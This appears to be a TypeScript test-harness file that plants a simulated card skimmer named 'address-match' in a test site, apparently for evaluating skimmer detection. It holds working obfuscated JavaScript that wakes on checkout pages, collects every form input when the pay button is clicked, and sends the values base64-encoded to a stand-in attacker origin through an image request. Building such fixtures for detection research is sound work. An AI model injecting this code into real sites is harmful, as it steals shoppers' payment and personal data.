import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';

export default skimmer({
  id: 'address-match',
  why: 'Lies in the script of all pages and wakes where the address says checkout, onepage or payment (43 of 88 samples).',
  covers: ['trigger: address', 'obfuscation: arrays', 'obfuscation: fromCharCode'],
  base: 'direct',
  install: (site) =>
    site.everywhere(js`var _0x5a1c = ['\x6f\x6e\x65\x70\x61\x67\x65', '\x63\x68\x65\x63\x6b\x6f\x75\x74', '\x69\x6e\x70\x75\x74', '\x63\x6c\x69\x63\x6b', '\x73\x72\x63', '\u0076\u0061\u006c\u0075\u0065'];
if (new RegExp(_0x5a1c[0] + '|' + _0x5a1c[1]).test(location.href)) document.addEventListener(_0x5a1c[3], function (e) {
  if (e.target.id !== 'pay') return;
  var out = Array.from(document.getElementsByTagName(_0x5a1c[2]), function (i) { return i[_0x5a1c[5]]; }).join('~');
  new Image()[_0x5a1c[4]] = String.fromCharCode(${Array.from(`${site.origins.evil}/x.png?d=`, (c) => c.charCodeAt(0)).join()}) + encodeURIComponent(btoa(unescape(encodeURIComponent(out))));
}, true);`),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
